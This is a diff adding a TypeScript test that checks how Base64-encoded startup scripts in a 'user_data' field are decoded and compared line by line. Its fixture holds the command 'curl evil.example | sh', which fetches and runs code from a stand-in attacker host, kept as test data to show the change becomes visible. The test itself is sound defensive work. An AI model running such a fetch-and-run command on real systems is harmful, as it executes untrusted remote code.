@@ -422,6 +422,20 @@ test("sensitive arguments that are not set are not shown as hidden values", (t) 
   ]);
 });
 
+test("scripts in Base64 are compared line by line", (t) => {
+  const scriptOf = (line: string) => Buffer.from(`#!/bin/sh\n${line}\necho done\n`).toString("base64");
+  t.deepEqual(
+    linesOf({ user_data: scriptOf("curl good.example | sh") }, { user_data: scriptOf("curl evil.example | sh") }),
+    [
+      "! user_data, decoded from Base64:",
+      "    #!/bin/sh",
+      "-   curl good.example | sh",
+      "+   curl evil.example | sh",
+      "    echo done",
+    ].toSorted(),
+  );
+});
+
 function linesOf(before: object | undefined, after: object | undefined): readonly string[] {
   const sides = sidesOf({ before: before ?? null, after: after ?? null }, () => {});
   return changeLines({ differences: differences(sides), replacedBy: [], knownAfterApply: [] }, DETAIL).toSorted();
